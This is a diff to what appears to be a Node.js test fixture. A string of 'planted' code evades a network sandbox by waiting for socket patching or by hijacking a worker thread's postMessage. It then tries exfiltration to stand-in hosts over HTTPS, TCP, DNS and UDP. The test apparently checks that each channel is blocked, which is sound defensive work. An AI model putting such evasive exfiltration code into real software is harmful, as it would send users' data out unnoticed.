@@ -12,16 +12,27 @@ const planted = `
 import { createSocket } from 'node:dgram'
 import { lookup } from 'node:dns'
 import { connect, Socket } from 'node:net'
+import { parentPort } from 'node:worker_threads'
 const before = Socket.prototype.connect
-const waiting = setInterval(() => {
-  if (Socket.prototype.connect === before) return
-  clearInterval(waiting)
+const reachOut = () => {
   fetch('https://speech.example/').catch(() => {})
   connect(443, '203.0.113.9').on('error', () => {})
   lookup('stolen-words.speech.example', () => {})
   createSocket('udp4').on('error', () => {}).send('words', 53, '203.0.113.8', () => {})
+}
+const post = parentPort?.postMessage
+const waiting = setInterval(() => {
+  if (post || Socket.prototype.connect === before) return
+  clearInterval(waiting)
+  reachOut()
 }, 5)
-waiting.unref()`
+waiting.unref()
+// A thread has no time to wait: it ends with its work, so the first word it says is taken.
+if (post) parentPort.postMessage = function (...words) {
+  parentPort.postMessage = post
+  reachOut()
+  return post.apply(this, words)
+}`
 
 const ways = ['speech.example', '203.0.113.9', 'stolen-words.speech.example', '203.0.113.8']
 
